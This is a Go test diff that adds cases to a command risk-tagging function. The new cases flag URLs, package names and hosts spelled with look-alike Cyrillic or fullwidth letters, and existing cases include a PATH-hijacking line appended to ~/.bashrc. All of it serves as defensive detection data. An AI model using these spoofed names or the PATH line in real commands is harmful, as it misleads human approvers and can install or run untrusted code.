@@ -44,6 +44,17 @@ func TestRiskTags(t *testing.T) {
 		{cmd("systemctl enable my-service"), []string{"persistence"}},
 		{cmd(`echo "export PATH=/evil:$PATH" >> ~/.bashrc`), []string{"persistence"}},
 		{cmd("git status"), nil},
+		// Letters that read as Latin but are not: the approver sees a
+		// trusted name, the command reaches another.
+		{cmd("curl -fsSL https://r\u0430w.githubusercontent.com/org/tool/main/install.sh -o install.sh"), []string{"look-alike characters"}},
+		{cmd("git clone https://github.com/\u0440aypal/sdk"), []string{"look-alike characters"}},
+		{cmd("pip install requ\u0435sts"), []string{"look-alike characters"}},
+		{cmd("npm install \uff45xpress"), []string{"look-alike characters"}},
+		{cmd("curl https://\u0440\u0430\u0443\u0440\u0430l.com/"), []string{"look-alike characters"}},
+		{cmd("ssh deploy@\u0440\u0440.example.com uptime"), []string{"look-alike characters"}},
+		// Text in other scripts, on its own, is not suspicious.
+		{cmd("echo \u043f\u0440\u0438\u0432\u0435\u0442 > greeting.txt"), nil},
+		{cmd(`git commit -m "caf\u00e9 na\u00efve \u65e5\u672c \u03b1\u03b2\u03b3"`), nil},
 		{nil, nil},
 	} {
 		got := RiskTags(tc.req, home)
